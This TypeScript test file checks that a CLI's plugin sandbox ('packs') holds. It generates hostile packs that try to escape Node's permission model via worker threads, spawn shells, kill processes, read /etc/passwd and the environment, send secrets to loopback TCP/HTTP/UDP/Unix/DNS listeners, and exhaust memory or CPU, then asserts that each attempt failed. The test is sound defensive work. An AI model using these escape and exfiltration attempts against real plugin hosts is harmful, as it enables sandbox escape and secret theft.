import { spawn, type ChildProcess } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ownCacheAndConfig, runCli } from '../run-cli';

/**
 * The hostile-input corpus, round three (issue 29): a CLI pack computes on tensors and nothing else. Each pack here
 * is written for the case and tries, at its module's top level and in its node's compute, what issue 29 found a
 * pack could do: leave Node's permission model through a worker thread (every execArgv and env form), start a
 * program, signal another process, read the environment and send it to a loopback server (TCP, HTTP, fetch, UDP,
 * a Unix socket, DNS), read /etc/passwd, write outside the output folder, and the next tries (process.binding,
 * dlopen, a dynamic import of worker_threads, new Function / eval, a handle's own constructor). Every effect is
 * checked from outside (the servers received nothing, the marker files do not exist, the sleeping process lives),
 * not only what the pack reports. The limits: a typed-array or wasm-memory bomb, a busy loop, Atomics.wait and a
 * spin at the top level each stop the command with exit 2, a message naming the pack and no stack trace, within the
 * bounds set here; a never-ending timer does not keep `run` alive.
 */
const tmp = mkdtempSync(join(tmpdir(), 'sg-hostile-packs-'));
const SECRET = `sg-secret-${process.pid}-${Date.now()}`;
const received: string[] = [];
let tcp: Server;
let unix: Server;
let udpPort = 0;
let udp: ReturnType<typeof createSocket>;
let sleeper: ChildProcess;
const sock = join(tmp, 'listen.sock');
const outside = join(tmp, 'outside.txt');
const marker = join(tmp, 'escaped');

interface Ran {
  code: number;
  stdout: string;
  stderr: string;
}

/** A child that gave no exit code (killed at its timeout, or past maxBuffer) reports -1. */
function cli(args: string[], env: Record<string, string> = {}, timeout = 240_000): Promise<Ran> {
  return runCli(args, {
    timeout,
    killSignal: 'SIGKILL',
    maxBuffer: 16 * 2 ** 20,
    noCode: -1,
    env: ownCacheAndConfig(tmp, { SG_HOSTILE_SECRET: SECRET, ...env }),
  });
}

const noStack = (r: Ran) => expect(r.stderr).not.toMatch(/\n\s+at .+:\d+:\d+/);

/** Everything a pack tries, as JavaScript run at its top level and again in compute. */
function attempts(port: number, pid: number): string {
  const escape = (n: string) => `
    require('fs').writeFileSync(${JSON.stringify(marker)} + '-' + ${n}, 'escaped');
    require('net').connect(${port}, '127.0.0.1').end('worker ' + JSON.stringify(process.env));`;
  return `
  const report = (what, r) => console.error('hostile: ' + what + ' -> ' + r);
  const attempt = async (what, f) => {
    try { const r = await f(); report(what, 'OK ' + String(r).slice(0, 60)); }
    catch (e) { report(what, (e && e.code) || String(e && e.message).slice(0, 80)); }
  };
  const { Worker } = await import('node:worker_threads');
  const cp = await import('node:child_process');
  const fs = await import('node:fs');
  const net = await import('node:net');
  const http = await import('node:http');
  const dgram = await import('node:dgram');
  const dns = await import('node:dns');
  const worker = (n, options) => new Promise((done, fail) => {
    const w = new Worker('const WHICH = ' + JSON.stringify(n) + ';' + ${JSON.stringify(escape('WHICH'))}, { eval: true, ...options });
    w.on('exit', () => done('exited')); w.on('error', fail);
  });
  await attempt('worker execArgv []', () => worker('a', { execArgv: [] }));
  await attempt('worker execArgv --no-experimental-permission', () => worker('b', { execArgv: ['--no-experimental-permission'] }));
  await attempt('worker execArgv --allow-fs-read=*', () => worker('c', { execArgv: ['--allow-fs-read=*', '--allow-fs-write=*', '--allow-child-process'] }));
  await attempt('worker NODE_OPTIONS in env', () => worker('d', { env: { NODE_OPTIONS: '--no-experimental-permission' } }));
  await attempt('worker by dynamic import', async () => new (await import('node:worker_threads')).Worker('1', { eval: true }));
  await attempt('spawn id', () => cp.execFileSync('id', { encoding: 'utf8' }));
  await attempt('spawn sh', () => new Promise((done, fail) => cp.spawn('sh', ['-c', 'touch ${marker}-sh']).on('error', fail).on('exit', done)));
  await attempt('kill', () => process.kill(${pid}, 'SIGKILL'));
  await attempt('_kill', () => process._kill(${pid}, 9));
  await attempt('env', () => JSON.stringify(process.env).includes('sg-secret') ? 'SECRET SEEN' : 'no secret: ' + Object.keys(process.env).length + ' vars');
  await attempt('read /etc/passwd', () => fs.readFileSync('/etc/passwd', 'utf8'));
  await attempt('write outside', () => fs.writeFileSync(${JSON.stringify(outside)}, 'pwned'));
  await attempt('fetch', () => fetch('http://127.0.0.1:${port}/fetch'));
  await attempt('http', () => new Promise((done, fail) => http.get('http://127.0.0.1:${port}/http', done).on('error', fail)));
  await attempt('tcp', () => new Promise((done, fail) => net.connect(${port}, '127.0.0.1', () => done('connected')).on('error', fail)));
  await attempt('unix socket', () => new Promise((done, fail) => net.connect(${JSON.stringify(sock)}, () => done('connected')).on('error', fail)));
  await attempt('pipe handle constructor', () => new Promise((done, fail) => {
    const Pipe = process.stdout._handle.constructor;
    const status = new Pipe(0).connect({ oncomplete: (s) => (s < 0 ? fail(new Error('status ' + s)) : done('connected')) }, ${JSON.stringify(sock)});
    if (status < 0) fail(Object.assign(new Error('status ' + status), { code: 'status ' + status }));
  }));
  await attempt('udp', () => new Promise((done, fail) => { const s = dgram.createSocket('udp4'); s.send('udp', ${udpPort}, '127.0.0.1', (e) => (e ? fail(e) : done('sent'))); }));
  await attempt('dns', () => new Promise((done, fail) => dns.lookup('example.com', (e, a) => (e ? fail(e) : done(a)))));
  await attempt('process.binding', () => process.binding('spawn_sync'));
  await attempt('process.dlopen', () => process.dlopen({ exports: {} }, '/usr/lib/x86_64-linux-gnu/libc.so.6'));
  await attempt('new Function', () => new Function('return process')());
  await attempt('eval', () => eval('1 + 1'));
  await attempt('v8 flags', async () => (await import('node:v8')).setFlagsFromString('--allow-natives-syntax'));
  await attempt('trace events', async () => (await import('node:trace_events')).createTracing({ categories: ['v8'] }).enable());
  await attempt('inspector', async () => (await import('node:inspector')).open(0));
  await attempt('hostname', async () => (await import('node:os')).hostname());
  await attempt('wasm computes', async () => (await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))).instance ? 'instantiated' : 'no');
`;
}

/** A pack: its top level and its compute (`compute` is the body of an async function of ctx). */
function pack(name: string, top: string, compute = 'return { image: ctx.inputs.input };', sync = false): string {
  const dir = join(tmp, name);
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name, type: 'module', main: 'index.js' }));
  writeFileSync(
    join(dir, 'index.js'),
    `${top}
export default {
  name: ${JSON.stringify(name)}, version: '1.0.0', api: '^1.0.0', description: 'a hostile test pack',
  nodes: [{
    type: 'pass', title: 'Pass', category: 'Test', inputs: { input: { type: 'Image' } }, outputs: { image: { type: 'Image' } }, params: {},
    infer: (ctx) => ({ image: ctx.inputs.input }),
    compute: ${sync ? '' : 'async '}(ctx) => { ${compute} },
  }],
};
`,
  );
  return dir;
}

/** A graph: the content image through the pack's node to the output. */
function graph(name: string): string {
  const file = join(tmp, `${name}.json`);
  writeFileSync(
    file,
    JSON.stringify({
      format: 'stylegraph',
      version: 1,
      metadata: { title: name },
      nodes: [
        { id: 'content', type: 'image', position: { x: 0, y: 0 }, params: { source: 'c.jpg', slot: 'content' } },
        { id: 'p', type: `${name}/pass`, position: { x: 200, y: 0 }, params: {} },
        { id: 'output', type: 'output', position: { x: 400, y: 0 }, params: {} },
      ],
      edges: [
        { from: { node: 'content', output: 'image' }, to: { node: 'p', input: 'input' } },
        { from: { node: 'p', output: 'image' }, to: { node: 'output', input: 'image' } },
      ],
    }),
  );
  return file;
}

const runArgs = (name: string, out: string) => [
  'run',
  graph(name),
  '--plugin',
  join(tmp, name),
  '--content',
  'presets/images/astronaut.jpg',
  '--size',
  '16',
  '--backend',
  'cpu',
  '--out',
  out,
];

beforeAll(async () => {
  tcp = createServer((c) => {
    received.push('tcp connection');
    c.on('data', (d) => received.push(String(d)));
    c.on('error', () => {});
  });
  await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
  unix = createServer((c) => {
    received.push('unix connection');
    c.destroy();
  });
  await new Promise<void>((r) => unix.listen(sock, r));
  udp = createSocket('udp4');
  udp.on('message', (m) => received.push(`udp ${String(m)}`));
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
  udpPort = udp.address().port;
  sleeper = spawn('sleep', ['600'], { stdio: 'ignore' });
});

afterAll(() => {
  tcp.close();
  unix.close();
  udp.close();
  sleeper.kill('SIGKILL');
  rmSync(tmp, { recursive: true, force: true });
});

const port = () => (tcp.address() as { port: number }).port;
const alive = (pid: number) => {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
};

/** What must hold after any of the packs ran: nothing reached, nothing written, the other process alive. */
function nothingEscaped(r: Ran) {
  expect(received, r.stderr).toEqual([]);
  for (const n of ['a', 'b', 'c', 'd', 'sh']) expect(existsSync(`${marker}-${n}`), `marker ${n}`).toBe(false);
  expect(existsSync(outside)).toBe(false);
  expect(alive(sleeper.pid!)).toBe(true);
  expect(r.stdout + r.stderr).not.toContain(SECRET);
  expect(r.stdout + r.stderr).not.toMatch(/root:x?:0:0/);
  expect(r.stderr).not.toMatch(/hostile: [^\n]* -> OK (?!instantiated|no secret: 0 vars)/);
}

describe('hostile CLI packs: nothing but tensors (issue 29)', () => {
  it('refuses every escape a pack tries at its top level (validate --plugin DIR)', async () => {
    const name = 'top';
    pack(name, attempts(port(), sleeper.pid!));
    const r = await cli(['validate', graph(name), '--plugin', join(tmp, name)]);
    // Each attempt was made and reported (so the pack really ran them), and refused.
    for (const what of [
      'worker execArgv []',
      'worker execArgv --no-experimental-permission',
      'worker NODE_OPTIONS in env',
      'spawn id',
      'kill',
      'fetch',
      'tcp',
      'unix socket',
      'pipe handle constructor',
      'udp',
      'dns',
      'process.binding',
      'new Function',
      'read /etc/passwd',
      'write outside',
    ])
      expect(r.stderr).toMatch(new RegExp(`hostile: ${what.replace(/[[\]*.]/g, '\\$&')} -> (?!OK)`));
    expect(r.stderr).toMatch(/hostile: env -> OK no secret: 0 vars/);
    expect(r.stderr).toMatch(/hostile: wasm computes -> OK instantiated/);
    nothingEscaped(r);
    expect(r.stdout).toMatch(/valid/);
    expect(r.code, r.stderr).toBe(0);
  }, 240_000);

  it('refuses the same in compute, and a never-ending timer does not keep run alive (the picture is written)', async () => {
    const name = 'incompute';
    const out = join(tmp, 'incompute.png');
    pack(
      name,
      'setInterval(() => {}, 1000);',
      `setInterval(() => {}, 1000); ${attempts(port(), sleeper.pid!)}\n return { image: ctx.inputs.input };`,
    );
    const r = await cli(runArgs(name, out));
    expect(r.stderr).toMatch(/hostile: worker execArgv \[\] -> (?!OK)/);
    nothingEscaped(r);
    expect(r.code, r.stderr).toBe(0);
    expect(existsSync(out)).toBe(true);
  }, 240_000);

  it.each([
    ['typed-array', 'const a = new Float32Array(1.4e9); a.fill(1); return { image: ctx.inputs.input };'],
    [
      'wasm-memory',
      'const m = new WebAssembly.Memory({ initial: 1, maximum: 65536 }); m.grow(40000); new Uint8Array(m.buffer).fill(1); return { image: ctx.inputs.input };',
    ],
  ])(
    'stops a %s bomb at the memory limit with exit 2, naming the pack',
    async (kind, body) => {
      const name = `bomb-${kind}`;
      pack(name, '', body);
      const limit = 400;
      const r = await cli(runArgs(name, join(tmp, `${name}.png`)), { STYLEGRAPH_PACK_MEMORY_MB: String(limit) });
      expect(r.code, r.stderr).toBe(2);
      const m = /pack "bomb-[a-z-]+" .*pack \S+ used more than 400 MiB of memory \((\d+) MiB resident\)/.exec(r.stderr);
      expect(m, r.stderr).not.toBeNull();
      // Stopped near the limit (the bridge reads the resident size every 25 ms), far below the 5.6 GB it asked for.
      expect(Number(m![1])).toBeLessThan(limit + 1024);
      noStack(r);
      expect(existsSync(join(tmp, `${name}.png`))).toBe(false);
    },
    240_000,
  );

  it.each([
    ['busy loop', 'for (;;) {}'],
    [
      'Atomics.wait',
      'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); return { image: ctx.inputs.input };',
    ],
  ])(
    'stops a %s in compute at the call deadline with exit 2, naming the pack',
    async (_kind, body) => {
      const name = `spin-${_kind.replace(/\W+/g, '-').toLowerCase()}`;
      pack(name, '', body, true);
      const r = await cli(runArgs(name, join(tmp, `${name}.png`)), { STYLEGRAPH_PACK_SECONDS: '3' });
      expect(r.code, r.stderr).toBe(2);
      expect(r.stderr).toMatch(
        new RegExp(`pack "${name}" \\(node ${name}/pass\\) failed in compute: pack \\S+ did not finish within 3 s`),
      );
      noStack(r);
    },
    240_000,
  );

  it('stops a pack that spins at its top level at the load deadline; the graph then says which pack is missing (exit 2)', async () => {
    const name = 'spin-top';
    pack(name, 'for (;;) {}');
    const r = await cli(['validate', graph(name), '--plugin', join(tmp, name)], { STYLEGRAPH_PACK_LOAD_SECONDS: '3' });
    expect(r.stderr).toMatch(/plugin \S+spin-top could not be loaded: pack \S+ did not finish within 3 s/);
    expect(r.code).toBe(2);
    noStack(r);
  }, 240_000);

  it('runs the example pack (examples/pack-wct) sandboxed to the same picture as with --no-sandbox-packs', async () => {
    const a = join(tmp, 'wct-sandboxed.png');
    const b = join(tmp, 'wct-own.png');
    const args = [
      'run',
      'presets/wct-pack.json',
      '--plugin',
      'examples/pack-wct',
      '--size',
      '16',
      '--steps',
      '1',
      '--backend',
      'wasm',
      '--threads',
      '1',
    ];
    const ra = await cli([...args, '--out', a]);
    expect(ra.code, ra.stderr).toBe(0);
    expect(ra.stderr).toMatch(/packs run in processes of their own/);
    const rb = await cli([...args, '--out', b, '--no-sandbox-packs']);
    expect(rb.code, rb.stderr).toBe(0);
    expect(readFileSync(a).equals(readFileSync(b))).toBe(true);
  }, 480_000);
});
